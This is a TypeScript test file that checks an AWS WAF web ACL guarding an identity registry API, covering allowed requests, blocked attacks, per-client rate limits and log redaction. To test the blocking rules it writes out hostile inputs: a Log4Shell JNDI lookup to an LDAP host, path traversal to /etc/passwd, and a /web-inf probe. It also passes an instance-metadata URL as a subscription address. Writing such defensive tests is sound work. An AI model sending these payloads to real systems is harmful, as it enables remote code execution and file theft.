import { beforeAll, expect, test } from 'vitest';
import { managedGroups } from '../../infra/constructs/protection/managed-groups.ts';
import { monthlyPrices } from '../../infra/docs/prices.ts';
import { settingPrices } from '../../infra/settings/setting-prices.ts';
import { methodsOf } from '../../shared/contract/endpoint.ts';
import { endpoints } from '../../shared/contract/endpoints.ts';
import { clientErrors } from '../../shared/domain/client-errors.ts';
import { type Properties, type Resources, synthesizeTemplate } from '../harness/template.ts';
import { blockingRules, rateLimits, rulesOf, type SeenRequest } from '../harness/web-acl.ts';

const trusted = '198.51.100.0/24';
let service: Resources;
let protection: Resources;
let acl: Properties;
let sets: Map<string, string[]>;
beforeAll(async () => {
  const template = await synthesizeTemplate({ stage: 'prod', trustedNetworks: `${trusted},2001:db8::/48` });
  service = template;
  protection = template.beside.Protection as Resources;
  acl = protection.ofType('AWS::WAFv2::WebACL')[0]?.properties ?? {};
  sets = new Map(protection.ofType('AWS::WAFv2::IPSet').map(({ id, properties }) => [id, properties.Addresses]));
});

const token = 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl';
const asked = (more: Partial<SeenRequest>): SeenRequest => ({
  ...{ method: 'GET', path: '/v1/persons', address: '203.0.113.7' },
  headers: { 'user-agent': 'registry/1', authorization: token },
  ...more,
});

const event = (note: string) => JSON.stringify({ source: 'CR', uin: '10000000000001', note });
const subscribing = { method: 'POST', path: '/v1/subscriptions' };
test.each<[string, Partial<SeenRequest>]>([
  ['an event of 200 KB', { method: 'POST', path: '/v1/topics/CR/publish', body: event('x'.repeat(200_000)) }],
  ['an event that quotes HTML', { method: 'POST', path: '/v1/topics/CR/publish', body: event('<b>née</b> ../..') }],
  ['a receiver at an IP address', { ...subscribing, query: 'address=https%3A%2F%2F203.0.113.9%2Fhook' }],
  // The web ACL does not reject the address of the instance metadata service, because the registry rejects it.
  ['a receiver whose address is forbidden', { ...subscribing, query: 'address=http://169.254.169.254/latest' }],
  ['a search with many attributes', { query: `lastName=O%27Brien&${'attributeNames=firstName&'.repeat(100)}` }],
  ['a topic named like a file', { method: 'POST', path: '/v1/topics/births.log/publish', body: event('') }],
  ['a request without a User-Agent header', { headers: { authorization: token } }],
  ['a name with special characters', { query: 'firstName=Ng%C5%A9g%C4%A9&lastName=%3Cunknown%3E' }],
])('the web ACL lets through %s', (_, request) => {
  expect(blockingRules(acl, asked(request))).toEqual([]);
});

test.each(endpoints.flatMap((endpoint) => methodsOf(endpoint).map((method) => [method, endpoint.path] as const)))(
  'the web ACL lets through %s %s',
  (method, path) => {
    const filled = path.replaceAll(/\{\w+\}/g, '0198d5a2-7f1c-7c3e-9b5a-3f1e2d4c5b6a');
    expect(blockingRules(acl, asked({ method, path: filled }))).toEqual([]);
  },
);

test.each<[string, Partial<SeenRequest>]>([
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack contains this text
  ['Log4JRCE_BODY', { body: '{"note":"${jndi:ldap://198.51.100.1/a}"}' }],
  ['GenericLFI_URIPATH', { path: '/v1/../../etc/passwd' }],
  ['ExploitablePaths_URIPATH', { path: '/web-inf/web.xml' }],
  ['UserAgent_BadBots_HEADER', { headers: { 'user-agent': 'nessus' } }],
])('the web ACL blocks %s', (rule, request) => {
  expect(blockingRules(acl, asked(request))).toEqual([rule]);
});

test('every rule whose action is count exists in its managed rule group', () => {
  for (const { name, counted } of managedGroups) expect(rulesOf(name)).toEqual(expect.arrayContaining([...counted]));
});

/** Returns the number of requests that pass if one request is sent every `everyMs` milliseconds. */
function letThrough(request: Partial<SeenRequest>, { count, everyMs }: { count: number; everyMs: number }): number {
  const limit = rateLimits(acl, sets);
  let through = 0;
  for (let nth = 0; nth < count; nth += 1) {
    const authorization = token + nth;
    const headers = { 'user-agent': 'a', authorization };
    if (limit(asked({ headers, ...request }), nth * everyMs) === undefined) through += 1;
  }
  return through;
}

test('the limits per client block a flood of requests from one address, even if every request has a different token', () => {
  // Without these limits, the stage would accept 2,000 requests per second.
  expect(letThrough({}, { count: 8000, everyMs: 0.5 })).toBe(6000);
  expect(letThrough({ headers: { authorization: 'Bearer guess' } }, { count: 700, everyMs: 1 })).toBe(300);
  expect(letThrough({ headers: {} }, { count: 700, everyMs: 1 })).toBe(300);
});

test('the limits per client block excessive requests to the public pages, regardless of the Authorization header', () => {
  // Browsers send no token.
  for (const path of ['/v1/confirm', '/v1/openapi.json', '/civil/v1/unsubscribe', '/v1/nothing'])
    for (const headers of [{}, { headers: {} }, { headers: { authorization: 'Bearer guess' } }])
      expect(letThrough({ path, ...headers }, { count: 700, everyMs: 1 }), path).toBe(600);
});

test('the limits per client block excessive requests to costly operations with one token, even from many addresses or a trusted network', () => {
  const costly = endpoints.filter((endpoint) => 'isCostly' in endpoint);
  for (const { method, path } of costly) {
    const request = { method, path: path.replaceAll(/\{\w+\}/g, 'a-1'), headers: { authorization: token } };
    for (const from of [{}, { address: '198.51.100.9' }])
      expect(letThrough({ ...request, ...from }, { count: 1000, everyMs: 1 }), path).toBe(900);
  }
  // Publishing an event is not a costly operation.
  const publish = { method: 'POST', path: '/v1/topics/CR/publish', headers: { authorization: token } };
  expect(letThrough(publish, { count: 1000, everyMs: 1 })).toBe(1000);
});

test('the limits per client do not block requests at an ordinary rate', () => {
  // The requests take more than a minute, so the first requests no longer count when the last requests arrive.
  expect(letThrough({}, { count: 8000, everyMs: 12 })).toBe(8000);
});

test('the limits per client allow more requests from an address in a trusted network', () => {
  for (const address of ['198.51.100.9', '2001:db8::7'])
    expect(letThrough({ address }, { count: 6500, everyMs: 1 }), address).toBe(6500);
});

test('a blocked request gets an Error object and a Retry-After header', () => {
  const limits = acl.Rules.filter(({ Statement }: Properties) => Statement.RateBasedStatement !== undefined);
  expect(limits.length).toBeGreaterThan(0);
  for (const { Action } of limits) {
    const { ResponseCode, ResponseHeaders, CustomResponseBodyKey } = Action.Block.CustomResponse;
    expect([ResponseCode, ResponseHeaders]).toEqual([429, [{ Name: 'Retry-After', Value: '60' }]]);
    const { Content, ContentType } = acl.CustomResponseBodies[CustomResponseBodyKey];
    expect(ContentType).toBe('APPLICATION_JSON');
    expect(JSON.parse(Content)).toEqual({ code: clientErrors.throttled.code, message: expect.any(String) });
  }
});

test('the web ACL protects the stage but stores no samples of requests', () => {
  const [association] = protection.ofType('AWS::WAFv2::WebACLAssociation');
  expect(JSON.stringify(association?.properties.ResourceArn)).toMatch(/::\/restapis\/.*\/stages\/v1"/);
  expect(JSON.stringify(acl)).not.toContain('"SampledRequestsEnabled":true');
  const settings = (of: Resources): Properties[] => of.ofType('AWS::ApiGateway::Stage')[0]?.properties.MethodSettings;
  const rate = (of: Resources, path: string) =>
    settings(of).find(({ ResourcePath }) => ResourcePath === path.replaceAll('/', '~1').replace(/^~1/, '/~1'))
      ?.ThrottlingRateLimit;
  expect([rate(service, '/confirm'), rate(service, '/subscriptions')]).toEqual([500, 50]);
});

const only = (type: string): Properties => protection.ofType(type)[0]?.properties ?? {};

test('the log of blocked requests contains no other requests and has a valid name and the usual retention period', () => {
  const group = protection.ofType('AWS::Logs::LogGroup')[0];
  const name = JSON.stringify(group?.properties.LogGroupName);
  expect(name).toMatch(/^[^a-z]*(Fn::Join)?[^a-z]*aws-waf-logs-identity-registry-prod.*Fn::Select":\[2,/);
  expect(group).toMatchObject({ deletionPolicy: 'RetainExceptOnCreate', properties: { RetentionInDays: 365 } });
  const { LogDestinationConfigs, LoggingFilter, ResourceArn } = only('AWS::WAFv2::LoggingConfiguration');
  expect(JSON.stringify(LogDestinationConfigs)).toContain(`:log-group:",{"Ref":"${group?.id}"}]`);
  expect(ResourceArn['Fn::GetAtt'][0]).toBe(protection.ofType('AWS::WAFv2::WebACL')[0]?.id);
  const Conditions = [{ ActionCondition: { Action: 'BLOCK' } }];
  const Filters = [{ Behavior: 'KEEP', Requirement: 'MEETS_ANY', Conditions }];
  expect(LoggingFilter).toEqual({ DefaultBehavior: 'DROP', Filters });
});

test('the log of blocked requests contains neither personal data nor tokens', () => {
  const { RedactedFields } = only('AWS::WAFv2::LoggingConfiguration');
  const headers = ['authorization', 'referer'].map((Name) => ({ SingleHeader: { Name } }));
  expect(RedactedFields).toEqual(expect.arrayContaining([{ UriPath: {} }, { QueryString: {} }, ...headers]));
});

test('the documented price of the setting waf covers the web ACL and all rules in it', () => {
  const [, month] = settingPrices.find(([setting]) => setting === '`waf`') ?? [];
  expect(Number(month)).toBe(monthlyPrices['web ACL']['us-east-1'] + acl.Rules.length);
});

test('a stage without the setting waf has no web ACL', async () => {
  expect((await synthesizeTemplate()).beside.Protection).toBeUndefined();
});
